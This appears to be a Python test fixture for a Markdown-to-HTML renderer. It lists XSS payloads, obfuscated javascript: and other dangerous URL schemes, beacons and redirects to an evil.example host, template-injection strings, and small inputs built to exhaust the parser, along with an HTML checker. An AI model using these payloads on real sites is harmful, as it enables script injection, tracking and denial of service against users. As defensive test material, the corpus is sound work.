"""Markdown that means harm, and an independent reading of the HTML that comes of it.

Belongs here: the corpus that several tests share, and `read`, which parses HTML as a
browser's parser would and says what is in it. Does not: what a test expects.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser

VOID = {"br", "hr"}

# Addresses that must never become links, as they stand in `[x](…)` or `<…>`.
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript%3Aalert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java%0ascript:alert(1)",
    "&#1;javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\u200bscript:alert(1)",
    "ｊavascript:alert(1)",
    "javascript：alert(1)",
    "ja\u0432ascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "intent://evil.example#Intent;scheme=http;end",
    "ms-word:ofe|u|https://evil.example/x",
    "vscode://evil.example/x",
    "ssh://evil.example",
    "view-source:https://evil.example",
    "//evil.example/x",
    "\\\\\\\\evil.example/x",
    "/\\\\evil.example/x",
    "/%5Cevil.example/x",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https://good.example\\\\@evil.example",
    "https://good.example@evil.example/",
    "https://good.example%40evil.example/",
    "https://evil.example:x/",
    "mailto:a@b.example?body=yes",
    "mailto:a@b.example%0abcc:c@d.example",
)

# Whole documents. Every request they could make goes to a host with `evil` in its name.
DOCUMENTS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=document.title='owned'>",
    "</pre></code></main><script src=http://evil.example/x.js></script>",
    "<iframe src=http://evil.example/frame></iframe>",
    "<meta http-equiv=refresh content=0;url=http://evil.example/refresh>",
    "<base href=http://evil.example/><link rel=stylesheet href=http://evil.example/x.css>",
    "<style>body{background:url(http://evil.example/css)}</style>",
    "<form action=http://evil.example/><input autofocus onfocus=alert(1)></form>",
    "<!-- hidden --> <![CDATA[ x ]]> <?php ?>",
    "![](http://evil.example/beacon.png)",
    '![alt](http://evil.example/beacon.png "title")',
    "![alt][r] and [![badge](http://evil.example/b.svg)](http://evil.example/ok)\n\n[r]: http://evil.example/r.png",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](http://evil.example/\" onmouseover=\"document.title='owned')",
    "[x](http://evil.example/'onclick='document.title=1 '\"><script>1</script>')",
    "[x](<http://evil.example/ onclick=alert(1)>)",
    '```" onclick="alert(1)\nx\n```',
    "```html\n</code></pre><script>document.title='owned'</script>\n```",
    "`</code><script>document.title='owned'</script>`",
    "# main\n\n## paths\n\n[x](#q=1) [main](#main)",
    '|a" onclick="x|b|\n|:-:|-:|\n|<script>1</script>|`|`|',
    "1234567890. x\n\n999999999. y",
    "- [x] <script>1</script>\n- [ ] [y](javascript:alert(1))",
    "admin\u202e\u2066nimda\u2069 \U000e0041\u200b `\u202e` &#x202e; \x1b[31m \udc80 \x00",
    "[\u202ecod](http://evil.example/\u202egnp.exe)",
    "{{ 7*7 }} {% raw %} ${7} <%= 7 %>",
    *(f"[x]({address})\n\n[x](<{address}>)\n\n<{address}>\n\n![x]({address})\n" for address in ADDRESSES),
    *(f"[x]\n\n[x]: {address}\n" for address in ADDRESSES),
)

# Small texts that ask for much.
BOMBS = {
    "references to a long address": "[a]: https://e.example/" + "x" * 1900 + "\n\n" + "[a]" * 8700,
    "references to a longer one": "[a]: https://e.example/" + "x" * 14000 + "\n\n" + "[a]" * 4700,
    "references to a file": "[a]: " + "x" * 1900 + "\n\n" + "[a]" * 8700,
    "opened pictures": "![" * (32 << 10),
    "opened labels": "[" * 60_000,
    "empty labels": "[]" * 30_000,
    "deep quotes": ">" * (64 << 10),
    "quotes over many lines": "> " * 30 + "\n" + ("> " * 15 + "a\n") * 2000,
    "deep lists": "- " * (32 << 10),
    "stairs of lists": "\n".join(" " * (2 * n) + "- a" for n in range(350))[: 64 << 10],
    "a table without cells": "|" + "a|" * 256 + "\n|" + "-|" * 256 + "\n" + "|\n" * 30_000,
    "backticks": "".join("`" * n + " " for n in range(1, 350)),
    "nested emphasis": "*a **b " * 9000,
    "asterisks": "a**b" * (16 << 10),
    "addresses": "<http:" * 10_000,
    "link openings": "[a](" * (16 << 10),
    "definitions": "[a]: <" * 10_000,
    "hidden characters": "\U000e0041" * (64 << 10),
}


@dataclass
class Reading(HTMLParser):
    """What a parser finds in HTML. `balanced` is False where tags do not close in order."""

    tags: set[str] = field(default_factory=set)
    attributes: set[tuple[str, str]] = field(default_factory=set)
    addresses: list[str] = field(default_factory=list)
    text: str = ""
    balanced: bool = True
    open: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            if name == "href":
                self.addresses.append(value or "")
            self.attributes.add((tag, name))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.balanced = False

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.balanced = self.balanced and not data

    def handle_decl(self, decl: str) -> None:
        self.balanced = self.balanced and not decl

    def handle_pi(self, data: str) -> None:
        self.balanced = self.balanced and not data


def read(html: str) -> Reading:
    """HTML, read to its end."""
    reading = Reading()
    reading.feed(html)
    reading.close()
    reading.balanced &= not reading.open
    return reading
